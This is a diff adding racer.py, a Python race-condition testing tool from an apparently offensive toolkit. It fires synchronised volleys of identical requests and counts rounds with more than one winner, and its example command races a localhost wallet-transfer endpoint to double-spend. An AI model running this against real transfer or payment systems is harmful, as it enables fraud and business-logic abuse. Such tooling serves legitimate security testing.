@@ -0,0 +1,95 @@
+#!/usr/bin/env python3
+"""
+Module: racer.py
+Author: Sanchez (The Photo Finish)
+Purpose: Race-condition tester — N copies of one request, armed on pre-opened
+         connections and released together (core.race), with the send spread
+         and success count of every round.
+         Replaces real-wallet-lab/h2_attack.py + attack.sh:
+           ./arsenal racer -u http://localhost:3000/wallet/transfer \
+               -d '{"fromId": 101, "toId": 102, "amount": 50}' -n 20 --after http://localhost:3000/wallet/101
+"""
+import argparse
+import os
+import re
+import sys
+from typing import Dict, Optional
+
+sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), '../../')))
+
+from core import config, get_banner, logger
+from core.logger import flush_logs
+from core.race import MODES, RaceWindow
+
+def parse_headers(specs) -> Dict[str, str]:
+    headers = {}
+    for spec in specs or []:
+        key, sep, value = spec.partition(":")
+        if not sep:
+            raise ValueError(f"Bad header '{spec}' (want 'Name: value')")
+        headers[key.strip()] = value.strip()
+    return headers
+
+def expect_matcher(pattern: Optional[str]):
+    """--expect REGEX → success means the body matches; default: any 2xx."""
+    if not pattern:
+        return lambda res: 200 <= res.status_code < 300
+    regex = re.compile(pattern)
+    return lambda res: bool(regex.search(res.text))
+
+def get_arg_parser() -> argparse.ArgumentParser:
+    parser = argparse.ArgumentParser(
+        description=get_banner("photo finish"),
+        formatter_class=argparse.RawTextHelpFormatter
+    )
+    parser.add_argument("-u", "--url", required=True, help="Endpoint to race")
+    parser.add_argument("-X", "--method", default="POST", help="HTTP method (default: POST)")
+    parser.add_argument("-d", "--data", default="", help="Request body (JSON bodies get a JSON Content-Type)")
+    parser.add_argument("-H", "--header", action="append", default=[], help="'Name: value' (repeatable)")
+    parser.add_argument("-n", "--count", type=int, default=20, help="Requests per volley (default: 20)")
+    parser.add_argument("--mode", choices=MODES, default="auto",
+                        help="single-packet (HTTP/2), last-byte (HTTP/1.1) or auto")
+    parser.add_argument("--h2", action="store_true", help="Force HTTP/2 (h2c on http:// URLs)")
+    parser.add_argument("--expect", help="Regex a successful response body matches (default: any 2xx)")
+    parser.add_argument("--rounds", type=int, default=1, help="Volleys to fire")
+    parser.add_argument("--settle", type=float, default=0.1, help="Seconds between arming and release")
+    parser.add_argument("--after", help="URL to GET after each volley (e.g. the balance)")
+    return parser
+
+if __name__ == "__main__":
+    print(get_banner("photo finish"))
+    args = get_arg_parser().parse_args()
+    if args.h2:
+        config.FORCE_HTTP2 = True
+
+    try:
+        headers = parse_headers(args.header)
+    except ValueError as e:
+        logger.critical(f"❌ {e}")
+        sys.exit(1)
+    if args.data and args.data.lstrip()[:1] in ("{", "[") and not any(k.lower() == "content-type" for k in headers):
+        headers["Content-Type"] = "application/json"
+
+    item = (args.method, args.url, {"headers": headers, "data": args.data or None})
+    success = expect_matcher(args.expect)
+    won = 0
+    for round_no in range(1, args.rounds + 1):
+        try:
+            result = RaceWindow([item] * args.count, mode=args.mode, settle=args.settle).fire(success)
+        except (ValueError, OSError) as e:
+            logger.critical(f"❌ Round {round_no}: {e}")
+            sys.exit(1)
+        logger.info(f"🔁 Round {round_no}/{args.rounds}")
+        result.log()
+        won += result.successes > 1
+        if args.after:
+            from core import default_requester
+            res = default_requester().get(args.after)
+            logger.info(f"   {args.after} → {res.status_code if res is not None else 'no answer'} "
+                        f"{res.text[:200] if res is not None else ''}")
+
+    flush_logs()
+    if won:
+        logger.info(f"🔥 More than one request won the race in {won}/{args.rounds} round(s). Check the state.")
+    else:
+        logger.info("🧱 Clean Sheet. At most one winner per round.")